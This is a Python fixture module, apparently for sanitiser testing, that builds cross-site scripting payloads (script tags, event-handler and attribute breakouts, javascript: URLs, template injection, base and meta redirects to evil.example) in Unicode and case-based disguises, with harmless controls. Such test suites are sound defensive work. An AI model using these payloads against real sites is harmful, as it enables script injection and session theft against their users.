"""Texts that would become markup if a page let them: what each would do, in every disguise."""

# `NN` is the payload's number. `xss-probe` and `data-xss` are on no page of ours.
VECTORS = (
  "<script>alert(NN)</script>",
  "<svg onload=alert(NN)>",
  "<img src=x onerror=alert(NN)>",
  "<xss-probe data-xss=NN>",
  '"><svg/onload=alert(NN)>',
  "'><img src=x onerror=alert(NN)>",
  '" onmouseover="alert(NN)" data-xss="',
  "' onfocus='alert(NN)' autofocus data-xss='",
  '" style="position:fixed;inset:0" data-xss="',
  "javascript:alert(NN)",
  "data:text/html,<script>alert(NN)</script>",
  "</script><script>alert(NN)</script>",
  "--><script>alert(NN)</script><!--",
  "</title><xss-probe data-xss=NN>",
  "</option></select><img src=x onerror=alert(NN)>",
  "{{7*7}}<xss-probe>{{{w.product}}}{{#rows}}x{{/rows}}",
  "{{% CONTENT_TYPE:TEXT}}<img src=x onerror=alert(NN)>",
  "<a href=javascript:alert(NN)>NN</a>",
  "<iframe srcdoc='<script>parent.alert(NN)</script>'></iframe>",
  '<math><mtext><table><mglyph><style><!--</style>'
  '<img title="--&gt;&lt;img src=1 onerror=alert(NN)>">',
  "<base href=//evil.example/><xss-probe>",
  "<form action=//evil.example><button formaction=javascript:alert(NN)>NN</button></form>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "&lt;img src=x onerror=alert(NN)&gt;&#60;xss-probe&#62;",
  "<scr<script>ipt>alert(NN)</scr</script>ipt>",
)

SPECIAL = "<>\"'&"


def before(glue):
  """A disguise: a sign that joins the next one to itself, before everything special."""
  return lambda text: "".join(glue + c if c in SPECIAL else c for c in text)


def after(glue):
  """A disguise: a sign that joins itself to the one before, behind everything special."""
  return lambda text: "".join(c + glue if c in SPECIAL else c for c in text)


DISGUISES = {
  "none": lambda text: text,
  "U+0600 before": before("\u0600"),
  "U+0605 before": before("\u0605"),
  "U+06DD before": before("\u06dd"),
  "U+0D4E before": before("\u0d4e"),
  "U+110BD before": before("\U000110bd"),
  "U+0301 behind": after("\u0301"),
  "U+200D behind": after("\u200d"),
  "right to left": lambda text: "\u202e" + text + "\u200f",
  "no spaces": lambda text: text.replace(" ", "/", 1),
  "upper case": lambda text: text.replace("script", "SCRIPT").replace("img", "IMG"),
  "long": lambda text: ("long " * 12 + text)[:240],
}


def payloads():
  """All of them, each once: the vectors in every disguise."""
  found = [(name, disguise(vector)) for vector in VECTORS for name, disguise in DISGUISES.items()]
  return [(name, text.replace("NN", str(number))) for number, (name, text) in enumerate(found)]


def harmless():
  """As many texts that could be nothing else."""
  return [("none", f"plain text {number}") for number in range(len(payloads()))]
